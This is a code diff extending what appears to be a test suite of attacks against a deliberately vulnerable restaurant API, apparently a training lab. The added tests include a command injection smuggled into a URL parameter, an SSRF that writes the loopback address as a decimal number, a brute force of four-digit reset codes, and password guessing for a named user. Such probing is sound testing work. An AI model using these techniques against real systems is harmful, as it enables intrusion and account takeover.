@@ -73,6 +73,11 @@ async function order(call, guest, dish) {
   return call('POST', '/orders', { token: guest.token, json })
 }
 
+async function tellCode(call, { username }, code) {
+  return (await call('POST', '/reset-password/new-password', { json: { username, reset_password_code: code, new_password: password } }))
+    .status
+}
+
 /** Each settles with whether it hurt. `inside` is an address that only the application can reach. */
 export const attacks = [
   ['level 0: technology told in a header', async (call) => (await call('GET', '/healthcheck')).headers.has('x-powered-by')],
@@ -128,6 +133,24 @@ export const attacks = [
         'vulnerable',
       ) === true,
   ],
+  [
+    'level 4, by a change of a dish and an address written as a number',
+    async (call, people, { inside }) => {
+      const { id } = await addDish(call, people, 'to be changed')
+      const json = { name: 'changed', price: 1, category: 'test', description: '', image_url: inside.replace('127.0.0.1', '2130706433') }
+      const { value } = await call('PUT', `/menu/${id}`, { token: people.employee, json })
+      return Buffer.from(value?.image_base64 ?? '', 'base64')
+        .toString()
+        .includes('only inside')
+    },
+  ],
+  [
+    'level 5, by a substitution',
+    async (call, { chef }) =>
+      (
+        await call('GET', '/admin/stats/disk?parameters=%2Fnone%3B%20echo%20%24(echo%20vulnera)ble', { token: chef })
+      ).value?.output?.includes('vulnerable') === true,
+  ],
   ['a token that nobody signed', async (call) => (await call('GET', '/profile', { token: forge('chef') })).status === 200],
   [
     'the chef’s password is reset by whoever asks from here',
@@ -143,6 +166,27 @@ export const attacks = [
     async (call) =>
       (await call('GET', '/menu', { origin: 'https://not-the-restaurant.com' })).headers.get('access-control-allow-origin') ===
       'https://not-the-restaurant.com',
+  ],
+  [
+    'the code for a new password is guessed',
+    async (call, { one }) => {
+      await call('POST', '/reset-password', { json: { username: one.username } })
+      for (let first = 0; first < 10_000; first += 50) {
+        const codes = Array.from({ length: 50 }, (_, index) => String(first + index).padStart(4, '0'))
+        const statuses = await Promise.all(codes.map((code) => tellCode(call, one, code)))
+        if (statuses.includes(200)) return true
+        if (statuses.every((status) => status === 429 || status === 403)) return false
+      }
+      return false
+    },
+  ],
+  [
+    'a password is guessed',
+    async (call) => {
+      for (const guess of [...Array.from({ length: 40 }, (_, index) => `kaylee${index}`), 'kaylee123'])
+        if ((await call('POST', '/token', { form: { username: 'Mike', password: guess } })).status === 200) return true
+      return false
+    },
   ],
   ['the document of the API is open', async (call) => (await call('GET', '/openapi.json')).status === 200],
 ]
